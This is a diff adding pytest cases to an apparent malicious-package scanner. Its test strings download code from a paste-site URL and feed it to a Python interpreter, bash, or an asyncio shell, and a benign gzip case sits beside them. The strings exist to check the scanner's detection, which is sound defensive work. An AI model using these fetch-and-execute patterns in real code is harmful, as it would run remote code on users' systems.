@@ -828,3 +828,24 @@ def test_exfil_flow_benign_a_client_sends_its_token_when_called_or_home(tmp_path
     verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": module})
     assert not any(f.startswith("exfil-flow") for f in findings), findings
     assert verdict is Verdict.CLEAN, findings
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        "subprocess.run([sys.executable, '-'], input=requests.get(URL).content)",
+        "subprocess.run(['bash'], input=requests.get(URL).text, text=True)",
+        "asyncio.run(asyncio.create_subprocess_shell(requests.get(URL).text))",
+    ],
+    ids=["python-stdin", "shell-stdin", "asyncio-shell"],
+)
+def test_download_exec_code_fed_to_an_interpreter(run: str) -> None:
+    head = "import asyncio, subprocess, sys, requests\nURL = 'https://rentry.co/x/raw'\n"
+    source = f"{head}def update():\n    {run}\n"
+    assert [(f.source, f.sink) for f in flows_of(source)] == [(Source.DOWNLOAD, Sink.PROCESS)]
+
+
+def test_download_benign_fed_to_a_program_that_does_not_run_it() -> None:
+    source = "import subprocess, requests\ndef unpack(u):\n"
+    source += "    subprocess.run(['gzip', '-d'], input=requests.get(u).content)\n"
+    assert flows_of(source) == []
